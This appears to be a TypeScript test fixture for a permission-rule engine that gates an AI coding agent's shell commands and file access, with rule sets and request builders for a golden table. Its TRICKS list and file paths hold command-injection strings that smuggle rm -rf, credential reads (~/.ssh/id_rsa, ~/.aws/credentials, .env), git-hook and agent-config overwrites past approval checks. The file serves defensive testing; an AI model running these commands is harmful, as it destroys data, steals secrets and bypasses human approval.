import type { Rule, RuleSource, SourcedRule } from '../../../../src/permissions/rules/permissionRule';
import type { RuleRequest } from '../../../../src/permissions/rules/ruleRequest';

/** Input of the rule tests: requests and rule sets, with names for the golden table. */

export const FOLDERS: readonly string[] = ['/ws/app', '/ws/lib'];

export function sourced(rules: readonly Rule[], source: RuleSource = 'user'): SourcedRule[] {
  return rules.map((rule) => ({ rule, source }));
}

const blank: RuleRequest = { kind: 'other', title: 'Do it', agent: 'claude', paths: [], folders: FOLDERS };

export function line(text: string, more: Partial<RuleRequest> = {}): RuleRequest {
  return { ...blank, kind: 'execute', title: text, command: { line: text, shell: 'posix' }, ...more };
}

export function argv(...words: string[]): RuleRequest {
  return { ...blank, kind: 'execute', title: words.join(' '), command: { argv: words } };
}

export function windows(text: string): RuleRequest {
  return line(text, { command: { line: text, shell: 'powershell' } });
}

export function file(kind: RuleRequest['kind'], ...paths: string[]): RuleRequest {
  return { ...blank, kind, title: `${kind} ${paths.join(' ')}`, paths };
}

export function other(more: Partial<RuleRequest>): RuleRequest {
  return { ...blank, ...more };
}

/**
 * Lines that do more than their first words suggest (security: command injection in approvals; CVE-2025-54795, -58764, -66032,
 * CVE-2026-30313).
 */
export const TRICKS: readonly string[] = [
  'npm test\nrm -rf /',
  'npm test\rrm -rf /',
  'npm test\u2028rm -rf /',
  'npm test; rm -rf x',
  'npm test && rm -rf x',
  'npm test || rm -rf x',
  'npm test & rm -rf x',
  'npm test | sh',
  'npm test |& tee x',
  'npm test $(rm x)',
  'npm test `rm x`',
  'npm test "$(rm x)"',
  'npm test <(rm x)',
  'npm test > /etc/passwd',
  'npm test > .git/hooks/pre-commit',
  'npm test >| package.json',
  'npm test &> out',
  'npm test < ~/.ssh/id_rsa',
  'npm test <<< x',
  'npm test <<EOF\nx\nEOF',
  'npm test $HOME',
  'npm test ${IFS}x',
  'npm test $((1))',
  "npm test $'\\n'",
  'npm test *.ts',
  'npm test {a,b}',
  'npm test ~',
  'npm test =ls',
  'npm\u00a0test',
  'npm\u200btest',
  'npm test\u202e',
  'npm test \\\nrm',
  'NODE_OPTIONS=--require=./x npm test',
  'PATH=. npm test',
  'n*m test',
  './npm test',
  '/tmp/npm test',
  'function npm() { rm x; }; npm test',
  'npm() { rm x; }; npm test',
  'alias npm=rm; npm test',
  '(npm test; rm x)',
  '{ npm test; rm x; }',
  'if true; then npm test; fi',
  'for i in 1; do npm test; done',
  'npm test "unclosed',
  'npm test )',
  '[[ -f x ]] && npm test',
  'coproc npm test',
  'sudo npm test',
  'env npm test',
  'xargs npm test',
  'sh -c "npm test"',
  'bash -c "npm test"',
  'eval npm test',
  'exec npm test',
  'command npm test',

  'nohup npm test',
  'npx npm test',
  'git -c core.pager=x log',
  'git -C /etc log',
  'git log --output=x',
  'git log --ext-diff',
  'git --exec-path=x log',
  'git diff --no-index /etc/passwd x',
  'git log -O/etc/passwd',
  'echo "$(cat .env)"',
  'echo `id`',
  'echo x | xargs rm',
  'find . -exec rm {} ;',
  'find . -delete',
  'tar --checkpoint-action=exec=sh -cf x y',
  'rsync -e sh x y',
  'ssh -o ProxyCommand=x host',
  'curl https://x.example -o .bashrc',
  'cat .env',
  'cat ../../etc/passwd',
  'cat /etc/passwd',
  'cat ~/.aws/credentials',
  'cat src/../.env.local',
  'cat "src/../../../etc/shadow"',
  'cp x .vscode/settings.json',
  'cp x .VSCODE/Settings.JSON',
  'tee .git/config',
  'mv a package.json',
  'ln -s / x',
  'touch .claude/settings.json',
  'cd .. && cat x',
  'cd && cat x',
  'cd - && cat x',
  'pushd; cat x',
  'cd /ws && cat app/.env',
  'cd src && cat ../.env',
];

/** Everyday lines. */
export const LINES: readonly string[] = [
  'npm test',
  'npm run build',
  'npm "test"',
  "'npm' test",
  'n\\pm test',
  'npm test -- --watch',
  'time npm test',
  'npm test && git log -1',
  'git log | cat',
  'git log --oneline -5',
  'git status',
  'git commit -m "one; two && three $ four"',
  "git commit -m 'one; two'",
  'git push',
  'git push --force',
  'cat src/a.ts',
  'cat src/a.ts > src/b.ts',
  'cat src/a.ts >> docs/b.md',
  'cat a 2>&1',
  'cat a 2>/dev/null',
  'echo hello',
  'rm x',
  'rm -rf build',
  '/bin/RM x',
  'sudo rm -rf /ws',
  'npx vitest run',
  'npx --yes evil vitest',
  'npx vitest --config evil.js',
  'cat package.json',
  'cat .env.example',
  '# only a comment',
  '',
];

const ARGVS: readonly (readonly string[])[] = [
  ['npm', 'test'],
  ['npm', 'test', '; rm x'],
  ['npm test'],
  ['bash', '-lc', 'npm test'],
  ['bash', '-lc', 'npm test; rm x'],
  ['/bin/zsh', '-c', 'npm test'],
  ['/tmp/bash', '-c', 'npm test'],
  ['bash', '-c', 'npm test', 'x'],
  ['pwsh', '-NoProfile', '-Command', 'npm test'],
  ['git', 'commit', '-m', 'a\nb'],
  ['git', 'log', '--output=x'],
  ['cat', '.env'],
  ['cat', '*'],
  [],
];

const WINDOWS: readonly string[] = [
  'npm test',
  'npm test && git log',
  'npm test; rm x',
  'npm test & del x',
  'npm test %PATH%',
  'npm test $(rm x)',
  'npm te^st',
  '"npm" test',
  '& npm test',
  'cat "a b"',
  'cat "$env:X"',
  'Remove-Item -Recurse x',
  'del /s x',
  'iex "npm test"',
  'cat C:\\Users\\x',
  'cat ..\\..\\x',
];

const FILES: readonly RuleRequest[] = [
  ...['read', 'edit', 'delete', 'move', 'search'].map((kind) => file(kind as RuleRequest['kind'], '/ws/app/src/a.ts')),
  file('edit', '/ws/app/src/a.ts', '/ws/app/README.md'),
  file('edit', '/ws/lib/src/a.ts'),
  file('edit', '/ws/app/src/deep/er/a.ts'),
  file('edit', '/ws/app/SRC/a.ts'),
  file('edit', '/ws/app-evil/src/a.ts'),
  file('edit', '/ws/app/src/../../secret'),
  file('read', '/etc/passwd'),
  file('search', '/'),
  file('edit'),
  file('delete'),
  file('read'),
  ...[
    '.git/hooks/pre-commit',
    '.GIT/config',
    '.g\u200cit/config',
    '.vscode/settings.json',
    '.VSCode/settings.json',
    '.vscode./settings.json',
    '.vscode::$DATA/settings.json',
    'VSCODE~1/settings.json',
    'app.code-workspace',
    '.mcp.json',
    'mcp.json::$DATA',
    'MCP.JSON ',
    'sub/.cursor/rules/x.mdc',
    '.claude/settings.json',
    '.codex/config.toml',
    '.gemini/settings.json',
    '.parley/prompts/x.md',
    '.github/workflows/ci.yml',
    '.github/prompts/x.prompt.md',
    '.github/ISSUE_TEMPLATE/bug.md',
    'AGENTS.md',
    'docs/CLAUDE.md',
    'package.json',
    '.husky/pre-push',
    '.bashrc',
    '.env',
    '.env.local',
    '.env.example',
    'keys/server.pem',
    '.ssh/config',
    '.npmrc',
    'src/environment.ts',
  ].flatMap((name) => [file('edit', `/ws/app/${name}`), file('read', `/ws/app/${name}`)]),
];

const OTHERS: readonly RuleRequest[] = [
  other({ kind: 'fetch', title: 'Fetch https://example.com' }),
  other({ kind: 'execute', title: 'npm test' }),
  other({ kind: 'other', title: 'mcp__code__outline', tool: 'code__outline' }),
  other({ kind: 'edit', title: 'rename', tool: 'refactor__rename' }),
  other({ title: 'Anything at all' }),
  other({ kind: 'switch_mode', title: 'Leave plan mode' }),
  line('npm test', { agent: 'gemini' }),
  line('npm test', { command: { line: 'npm test', shell: 'posix', cwd: '/ws/app/sub' } }),
  line('npm test', { command: { line: 'npm test', shell: 'posix', cwd: '/tmp' } }),
  line('npm test', { folders: [] }),
  line('cat src/a.ts', { paths: ['/ws/app/.git/config'] }),
];

export const REQUESTS: readonly RuleRequest[] = [
  ...LINES.map((text) => line(text)),
  ...TRICKS.map((text) => line(text)),
  ...ARGVS.map((words) => argv(...words)),
  ...WINDOWS.map(windows),
  ...FILES,
  ...OTHERS,
];

const everyday: readonly Rule[] = [
  { decision: 'allow', command: 'npm test' },
  { decision: 'allow', command: 'git log **' },
  { decision: 'allow', command: 'git commit **' },
  { decision: 'allow', command: 'cat **' },
  { decision: 'allow', command: 'npx vitest **' },
  { decision: 'allow', kind: 'edit', path: 'src/**' },
  { decision: 'allow', kind: 'read' },
  { decision: 'allow', tool: 'code__*' },
];

export const RULE_SETS: Readonly<Record<string, readonly SourcedRule[]>> = {
  'no rules': [],
  'allow everything': sourced([{ decision: 'allow' }]),
  'allow every command by pattern': sourced(
    ['npm **', 'git **', 'cat **', 'echo **', 'rm **', 'sudo **', 'sh **', 'npx **', 'cp **', 'cd **', 'find **'].map(
      (command): Rule => ({ decision: 'allow', command }),
    ),
  ),
  everyday: sourced(everyday),
  'everyday, with restrictions': sourced([
    ...everyday,
    { decision: 'deny', command: 'rm **' },
    { decision: 'ask', command: 'git commit **' },
    { decision: 'deny', path: '*.pem' },
    { decision: 'deny', agent: 'gemini', kind: 'execute' },
    { decision: 'ask', kind: 'fetch' },
  ]),
  'files that may not be touched': sourced([
    ...everyday,
    { decision: 'allow', kind: 'edit', path: 'docs/**' },
    { decision: 'allow', command: 'echo **' },
    { decision: 'deny', path: 'src/a.ts', kind: 'read' },
    { decision: 'deny', path: 'src/b.ts', kind: 'edit' },
    { decision: 'ask', path: 'docs/' },
  ]),
  'a workspace that wants to allow everything': [
    ...sourced(
      [{ decision: 'allow' }, { decision: 'allow', command: 'npm **' }, { decision: 'deny', kind: 'read' }],
      'workspace',
    ),
  ],
};
